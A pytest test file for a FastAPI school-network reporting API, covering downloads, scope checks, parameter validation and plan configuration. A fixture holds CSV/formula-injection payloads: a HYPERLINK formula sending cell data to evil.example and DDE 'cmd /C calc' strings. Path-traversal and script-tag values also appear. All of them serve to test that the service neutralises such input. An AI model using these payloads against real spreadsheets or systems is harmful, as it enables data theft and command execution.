"""``/api/v1/readiness`` and ``/api/v1/procurement`` on the hand-made province: JSON and
downloads, wrong parameters (422 naming them), and the token's scope (403 beyond it)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from fastapi.testclient import TestClient

from schoolnet_collector.api.auth import get_clock
from schoolnet_collector.app import create_app
from schoolnet_collector.core.config import load_settings
from schoolnet_collector.registry.equipment import import_equipment
from schoolnet_collector.registry.models import Unit
from schoolnet_collector.registry.schools import import_schools
from schoolnet_collector.runtime import Runtime
from tests.support.collector import bearer, make_token
from tests.support.planning import (
    NOW,
    PLAN_LAO_CAI,
    PLAN_YEN_BAI,
    build_province,
    plan_files,
)
from tests.support.web import post_form


@pytest.fixture()
def runtime(tmp_path, influxdb, influx_db_name):
    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    rt = Runtime.open(
        load_settings(
            None,
            influx={"url": influxdb.url, "database": influx_db_name},
            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
        )
    )
    yield rt
    rt.close()


@pytest.fixture()
def client(runtime):
    app = create_app(runtime)
    app.dependency_overrides[get_clock] = lambda: lambda: NOW  # the period ends at NOW
    with TestClient(app) as c:
        yield c


def get(client, runtime, path, token_scope="province", role="viewer", **params):
    token = make_token(runtime, scope=token_scope, role=role)
    return client.get(path, params=params, headers=bearer(token))


def test_readiness_json_with_targets_and_gaps(client, runtime):
    r = get(client, runtime, "/api/v1/readiness", period="2d")
    assert r.status_code == 200, r.text
    total = r.json()["total"]
    internet = next(i for i in total["indicators"] if i["key"] == "internet")
    assert (internet["value"], internet["gap"], internet["target"]["value"]) == (75.0, 25.0, 100)
    assert "Thái Nguyên" in internet["target"]["source"]


def test_procurement_json_and_downloads(client, runtime):
    r = get(client, runtime, "/api/v1/procurement", period="2d", as_of=2018, lang="en")
    assert r.status_code == 200, r.text
    assert r.json()["total"]["labs_replace"] == 1
    assert any(
        "past its 8-year life" in x["text"] for d in r.json()["devices"] for x in d["reasons"]
    )
    r = get(client, runtime, "/api/v1/procurement", period="2d", as_of=2018, format="csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert (
        r.headers["content-disposition"]
        == 'attachment; filename="procurement-province-20260310.csv"'
    )
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Nhóm", "Mã", "Tên"] and rows[1][1] == "province"
    r = get(client, runtime, "/api/v1/readiness", period="2d", format="xlsx")
    assert r.headers["content-disposition"].endswith('readiness-province-20260310.xlsx"')
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames[0] == "Tổng hợp" and "THPT" in wb.sheetnames


@pytest.mark.parametrize(
    "params, message",
    [
        ({"period": "30"}, "period '30': expected a number and a unit"),
        ({"scope": "county:x"}, "expected province, commune:<code> or school:<id>"),
        ({"scope": "commune:nowhere"}, "no school run by commune 'nowhere'"),
        ({"scope": "district:d-one"}, "district scopes ended"),
        ({"format": "pdf"}, "format"),
        ({"lang": "fr"}, "lang"),
        ({"as_of": "1999"}, "as_of"),
    ],
)
def test_bad_parameters_are_422_naming_them(client, runtime, params, message):
    for path in ("/api/v1/readiness", "/api/v1/procurement"):
        r = get(client, runtime, path, **params)
        assert r.status_code == 422, (path, r.text)
        assert message in r.text


def test_a_commune_token_sees_the_schools_its_commune_runs_only(client, runtime):
    token = make_token(runtime, scope="commune:c-mot")
    default = client.get("/api/v1/readiness", params={"period": "2d"}, headers=bearer(token))
    assert default.status_code == 200 and default.json()["scope"] == "commune:c-mot"  # its own
    mine = client.get(
        "/api/v1/readiness",
        params={"scope": "commune:c-mot", "period": "2d"},
        headers=bearer(token),
    )
    assert mine.status_code == 200, mine.text
    assert {s["id"] for s in mine.json()["schools"]} == {"p-fibre", "p-3g"}
    school = client.get(
        "/api/v1/procurement",
        params={"scope": "school:p-3g", "period": "2d"},
        headers=bearer(token),
    )
    assert school.status_code == 200
    # The THPT in another commune, the commune where only the Sở's THPT stands, the province.
    for scope in ("commune:c-hai", "school:p-thpt", "school:p-none", "province"):
        r = client.get("/api/v1/procurement", params={"scope": scope}, headers=bearer(token))
        assert r.status_code == 403 and "outside the token's scope" in r.text, scope


def test_no_token_is_401(client):
    assert client.get("/api/v1/readiness").status_code == 401


def test_influxdb_down_is_503_naming_it(tmp_path, influxdb, influx_db_name):
    from devenv.services import free_port

    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    rt = Runtime.open(
        load_settings(
            None,
            influx={
                "url": f"http://127.0.0.1:{free_port()}",
                "database": influx_db_name,
                "timeout": 1,
            },
            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
        )
    )
    try:
        app = create_app(rt)
        app.dependency_overrides[get_clock] = lambda: lambda: NOW
        with TestClient(app) as c:
            r = c.get("/api/v1/readiness", headers=bearer(make_token(rt)))
        assert r.status_code == 503 and "InfluxDB unavailable" in r.text
    finally:
        rt.close()


HOSTILE = {  # what a school file or an equipment file may hold, and a spreadsheet would run
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "district_name": "+cmd|' /C calc'!A0",
    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
    "other": "-2+3",
}


def hostile_registry(tmp_path, runtime) -> None:
    """p-fibre's school file, equipment rows and its old district's unit name rewritten with
    formula-like text, imported the way the Sở's files are."""
    schools, equipment = tmp_path / "hostile-schools.csv", tmp_path / "hostile-equipment.csv"
    with schools.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [
                ["id", "name", "province", "district", "level", "district_name"],
                ["p-fibre", HOSTILE["name"], "lao-cai", "d-one", "thcs", HOSTILE["district_name"]],
                [
                    "p-3g",
                    HOSTILE["other"],
                    "lao-cai",
                    "d-one",
                    "tieu_hoc",
                    HOSTILE["district_name"],
                ],
            ]
        )
    with equipment.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [
                ["school", "device", "kind", "purchase_year", "room"],
                ["p-fibre", "admin-pc01", "admin_pc", "2016", HOSTILE["room"]],
                ["p-fibre", "admin-pc03", "admin_pc", "2012", "-1+1"],
            ]
        )
    with runtime.sessions() as session:
        assert not import_schools(session, schools).errors
        assert not import_equipment(session, equipment).errors
        session.get(Unit, "d-one").name = HOSTILE["district_name"]  # as a units file may say
        session.commit()


def test_formula_like_text_reaches_the_spreadsheets_as_text(client, runtime, tmp_path):
    """OWASP's rule on the downloads: a cell starting with = + - @ tab or CR is text (CSV: an
    apostrophe first; XLSX: a string cell with the quote prefix); numbers stay numbers."""
    hostile_registry(tmp_path, runtime)
    r = get(
        client,
        runtime,
        "/api/v1/readiness",
        period="2d",
        format="csv",
        lang="en",
    )
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE["district_name"] in cells, rows[:3]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    values = [row[rows[0].index("Value")] for row in rows[1:]]
    assert all(v == "" or float(v) >= 0 for v in values)  # figures as figures, no apostrophe

    for path in ("/api/v1/readiness", "/api/v1/procurement"):
        r = get(client, runtime, path, period="2d", format="xlsx", as_of=2026)
        assert r.status_code == 200, r.text
        book = openpyxl.load_workbook(io.BytesIO(r.content))
        seen = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                        assert cell.data_type == "s" and cell.quotePrefix, (path, cell.value)
                        seen.add(cell.value)
                    if isinstance(cell.value, int | float):
                        assert cell.data_type == "n"
        assert {HOSTILE["name"], HOSTILE["other"], HOSTILE["district_name"]} <= seen, (path, seen)
    assert {HOSTILE["room"], "-1+1"} <= seen  # the devices to replace, with their rooms


# --- how much one request may ask of InfluxDB, by role --------------------------------------
@pytest.fixture()
def limited(tmp_path, influxdb, influx_db_name):
    """The hand-made province (4 schools) with a viewer allowed 10 school-days at most."""
    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    rt = Runtime.open(
        load_settings(
            None,
            influx={"url": influxdb.url, "database": influx_db_name},
            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
            api={"report_limits": {"viewer": {"period_days": 31, "school_days": 10}}},
        )
    )
    app = create_app(rt)
    app.dependency_overrides[get_clock] = lambda: lambda: NOW
    with TestClient(app) as c:
        yield c, rt
    rt.close()


@pytest.mark.parametrize("path", ["/api/v1/readiness", "/api/v1/procurement"])
def test_a_viewer_asking_for_400_days_is_told_the_limit(client, runtime, path):
    r = get(client, runtime, path, period="400d")
    assert r.status_code == 400, r.text
    assert "400 days is longer than a viewer token may ask for (at most 31d)" in r.json()["detail"]
    assert get(client, runtime, path, period="31d").status_code == 200
    assert get(client, runtime, path, period="92d", role="operator").status_code == 200
    assert get(client, runtime, path, period="93d", role="operator").status_code == 400
    assert get(client, runtime, path, period="400d", role="admin").status_code == 200


def test_a_viewer_asking_for_too_many_school_days_is_told_to_narrow_it(limited):
    client, rt = limited
    r = get(client, rt, "/api/v1/readiness", period="3d", format="xlsx")  # 4 schools x 3 days
    assert r.status_code == 400, r.text
    detail = r.json()["detail"]
    assert "12 school-days" in detail and "at most 10" in detail and "commune" in detail
    assert get(client, rt, "/api/v1/readiness", period="2d").status_code == 200  # 8
    narrower = get(client, rt, "/api/v1/procurement", period="3d", scope="commune:c-mot")
    assert narrower.status_code == 200, narrower.text  # 2 schools x 3 days
    assert get(client, rt, "/api/v1/procurement", period="3d", role="operator").status_code == 200


def test_the_plan_page_says_the_limit_in_the_pages_language(limited):
    """The page reads the same 30 days as the API's default: 120 school-days here."""
    client, rt = limited
    client.cookies.clear()
    signed_in = post_form(
        client, "/login", {"token": make_token(rt), "next": "/plan"}, follow_redirects=False
    )
    assert signed_in.status_code == 303, signed_in.text
    page = client.get("/plan")
    assert page.status_code == 400 and "Báo cáo này gồm nhiều trường" in page.text, page.text
    assert "more schools and days" in client.get("/plan?lang=en").text
    client.cookies.clear()


# --- group_by= and plan= on the merged province (issue 12) -----------------------------------


@pytest.fixture()
def merged(tmp_path, influxdb, influx_db_name):
    """The province placed in communes, with the two old plans and a wrong third one on
    hand: ``make(*plan_texts)`` opens a client on a runtime configured with those plans."""
    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    opened = []

    def make(*texts: str, files: list | None = None):
        rt = Runtime.open(
            load_settings(
                None,
                influx={"url": influxdb.url, "database": influx_db_name},
                registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
                planning={"plans": files or plan_files(tmp_path, *texts)},
            )
        )
        app = create_app(rt)
        app.dependency_overrides[get_clock] = lambda: lambda: NOW
        client = TestClient(app)
        opened.append((rt, client))
        make.runtimes.append(rt)  # type: ignore[attr-defined]
        return client, bearer(make_token(rt, scope="province"))

    make.runtimes = []  # type: ignore[attr-defined]
    yield make
    for rt, client in opened:
        client.close()
        rt.close()


@pytest.mark.parametrize("path", ["/api/v1/readiness", "/api/v1/reports/procurement"])
def test_group_by_gives_the_asked_groups_and_keeps_every_school(merged, path):
    client, token = merged(PLAN_LAO_CAI, PLAN_YEN_BAI)
    r = client.get(
        path, params={"period": "2d", "group_by": "commune,managing_body"}, headers=token
    )
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["group_by"] == ["commune", "managing_body"]
    assert [g["id"] for g in body["communes"]] == ["c-hai", "c-mot", "unassigned"]
    assert [g["id"] for g in body["managing_bodies"]] == ["province", "commune"]
    assert "legacy_districts" not in body and "levels" not in body
    if "readiness" in path:
        assert sum(g["schools"] for g in body["communes"]) == body["total"]["schools"] == 4
        assert [(b["id"], b["schools"]) for b in body["managing_bodies"]] == [
            ("province", 1),
            ("commune", 3),
        ]
        assert [(p["id"], p["area"], p["schools"]) for p in body["plans"]] == [
            ("lao-cai-2018", "lao-cai-cu", 2),
            ("yen-bai-2020", "yen-bai-cu", 2),
        ]
    else:
        assert sum(g["needs"]["cost"] for g in body["communes"]) == body["total"]["cost"]


def test_plan_measures_one_plan_on_its_area_in_every_format(merged):
    client, token = merged(PLAN_LAO_CAI, PLAN_YEN_BAI)
    params = {"period": "2d", "plan": "yen-bai-2020", "group_by": "commune"}
    r = client.get("/api/v1/reports/readiness", params=params, headers=token)
    assert r.status_code == 200, r.text
    total = r.json()["total"]
    assert (total["kind"], total["id"], total["area"], total["schools"]) == (
        "plan",
        "yen-bai-2020",
        "yen-bai-cu",
        2,
    )
    internet = next(i for i in total["indicators"] if i["key"] == "internet")
    assert (internet["value"], internet["target"]["value"], internet["gap"]) == (50.0, 80, 30.0)
    sheet = client.get(
        "/api/v1/reports/readiness", params={**params, "format": "xlsx"}, headers=token
    )
    assert sheet.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(sheet.content))["Tổng hợp"].values)
    names = {r[2] for r in rows[1:] if r[0] in ("Kế hoạch", "Xã/phường")}
    assert names == {"Kế hoạch Yên Bái 2020", "Phường Hai", "Chưa gán xã"}
    assert any("So với chỉ tiêu của kế hoạch yen-bai-2020" in str(r[0]) for r in rows)


@pytest.mark.parametrize("path", ["/api/v1/readiness", "/api/v1/reports/procurement"])
@pytest.mark.parametrize(
    "params, message",
    [
        ({"group_by": "district"}, "group_by 'district': expected one or more of province,"),
        ({"group_by": "commune;level"}, "group_by 'commune;level'"),
        ({"group_by": "commune,<script>"}, "group_by '<script>'"),
        ({"group_by": "x" * 201}, "group_by"),  # longer than any list of axes
        ({"plan": "hoa-binh-2019"}, "no such plan; the plans are: lao-cai-2018, yen-bai-2020"),
        ({"plan": "../targets"}, "plan '../targets': no such plan"),
        ({"plan": "y" * 64}, "plan"),
    ],
)
def test_a_bad_group_by_or_plan_is_422_naming_it(merged, path, params, message):
    client, token = merged(PLAN_LAO_CAI, PLAN_YEN_BAI)
    for fmt in ("json", "xlsx"):
        r = client.get(path, params={"period": "2d", "format": fmt, **params}, headers=token)
        assert r.status_code == 422, (fmt, r.status_code, r.text[:300])
        assert r.headers["content-type"].startswith("application/json")  # no half download
        assert message in r.text, r.text


@pytest.mark.parametrize(
    "area, reason",
    [
        ("ha-giang-cu", "its area 'ha-giang-cu' is not a unit in the registry"),
        ("c-mot", "its area 'c-mot' is a unit of type 'xa'"),
    ],
)
def test_a_configured_plan_whose_area_is_not_a_province_is_a_503_naming_it(merged, area, reason):
    client, token = merged(PLAN_LAO_CAI, PLAN_YEN_BAI.replace("area: yen-bai-cu", f"area: {area}"))
    for params in ({}, {"plan": "lao-cai-2018"}, {"format": "csv"}):
        for path in ("/api/v1/readiness", "/api/v1/reports/procurement"):
            r = client.get(path, params={"period": "2d", **params}, headers=token)
            assert r.status_code == 503, (path, params, r.text[:300])
            detail = r.json()["detail"]
            assert detail.startswith("planning configuration: plan 'yen-bai-2020' (")
            assert reason in detail


def test_an_unreadable_or_duplicate_plan_file_is_a_503_naming_the_file(merged, tmp_path):
    missing = tmp_path / "no-such-plan.yaml"
    client, token = merged(files=[missing])
    r = client.get("/api/v1/readiness", params={"period": "2d"}, headers=token)
    assert r.status_code == 503 and f"{missing}: cannot read" in r.json()["detail"]
    twin = plan_files(tmp_path, PLAN_YEN_BAI, PLAN_YEN_BAI)
    client, token = merged(files=twin)
    r = client.get("/api/v1/procurement", params={"period": "2d"}, headers=token)
    assert r.status_code == 503 and "plan id 'yen-bai-2020' is already" in r.json()["detail"]


def test_plan_and_group_by_keep_the_scope_checks(merged):
    client, _ = merged(PLAN_LAO_CAI, PLAN_YEN_BAI)
    commune = bearer(make_token(merged.runtimes[-1], scope="commune:c-mot"))
    r = client.get(
        "/api/v1/readiness", params={"period": "2d", "group_by": "commune"}, headers=commune
    )
    assert r.status_code == 200, r.text
    assert [(g["id"], g["schools"]) for g in r.json()["communes"]] == [("c-mot", 2)]
    theirs = client.get(
        "/api/v1/readiness", params={"period": "2d", "plan": "yen-bai-2020"}, headers=commune
    )
    assert theirs.status_code == 422
    assert "no school of its area 'yen-bai-cu' is in scope commune:c-mot" in theirs.text
    wider = client.get(
        "/api/v1/procurement",
        params={"scope": "province", "group_by": "commune", "plan": "lao-cai-2018"},
        headers=commune,
    )
    assert wider.status_code == 403 and "outside the token's scope" in wider.text


def test_the_plan_page_measures_the_configured_plans_as_the_downloads_do(merged):
    client, token = merged(PLAN_LAO_CAI, PLAN_YEN_BAI)
    signed_in = post_form(
        client,
        "/login",
        {"token": make_token(merged.runtimes[-1]), "next": "/plan"},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303, signed_in.text
    page = client.get("/plan")
    assert page.status_code == 200, page.text
    assert "So với chỉ tiêu của kế hoạch lao-cai-2018" in page.text  # not the packaged default
    csv_rows = client.get(
        "/api/v1/reports/procurement", params={"format": "csv"}, headers=token
    ).content.decode("utf-8-sig")
    assert 'data-row="unassigned"' not in page.text  # the default grouping: no communes
    assert "Sở GDĐT" in page.text and "Sở GDĐT" in csv_rows
    client.cookies.clear()
    wrong = PLAN_YEN_BAI.replace("area: yen-bai-cu", "area: ha-giang-cu")
    client, _ = merged(PLAN_LAO_CAI, wrong)
    post_form(client, "/login", {"token": make_token(merged.runtimes[-1]), "next": "/plan"})
    page = client.get("/plan")
    assert page.status_code == 200  # the page stays, with the downloads and the reason
    assert "planning configuration: plan &#39;yen-bai-2020&#39;" in page.text, page.text
    assert "is not a unit in the registry" in page.text and 'id="plan-summary"' not in page.text
    client.cookies.clear()


def test_the_plan_page_offers_the_apis_groupings_and_plans(merged):
    """The page's choices are the API's ``group_by=`` and ``plan=``: its summary rows are the
    CSV's for the same choice, its downloads carry the choice, and a hand-made bad choice is a
    422 naming it, as the API says it."""
    client, token = merged(PLAN_LAO_CAI, PLAN_YEN_BAI)
    post_form(client, "/login", {"token": make_token(merged.runtimes[-1]), "next": "/plan"})
    page = client.get("/plan")
    for axis in ("commune", "managing_body", "legacy_district", "legacy_province"):
        assert f'<option value="{axis}"' in page.text, axis
    assert '<option value="yen-bai-2020"' in page.text and "Kế hoạch Yên Bái 2020" in page.text
    chosen = client.get("/plan", params=[("group_by", "commune"), ("group_by", "level")])
    assert chosen.status_code == 200, chosen.text
    assert 'data-row="unassigned"' in chosen.text and 'data-row="c-mot"' in chosen.text
    assert '<option value="commune" selected>' in chosen.text
    link = "/api/v1/reports/procurement?format=csv&amp;scope=province&amp;group_by=commune%2Clevel"
    assert link in chosen.text
    csv_rows = client.get(
        "/api/v1/reports/procurement",
        params={"format": "csv", "group_by": "commune,level"},
        headers=token,
    ).content.decode("utf-8-sig")
    assert "Chưa gán xã" in csv_rows and "Chưa gán xã" in chosen.text
    one = client.get("/plan", params={"plan": "yen-bai-2020"})
    assert one.status_code == 200 and "&amp;plan=yen-bai-2020" in one.text
    assert '<option value="yen-bai-2020" selected>' in one.text
    for params, message in (
        ({"group_by": "district"}, "group_by &#39;district&#39;: expected one or more of"),
        ({"plan": "hoa-binh-2019"}, "plan &#39;hoa-binh-2019&#39;: no such plan"),
        ({"plan": "x" * 200}, "plan: at most 63 characters"),
    ):
        bad = client.get("/plan", params=params)
        assert bad.status_code == 422 and message in bad.text, (params, bad.text[-600:])
    client.cookies.clear()
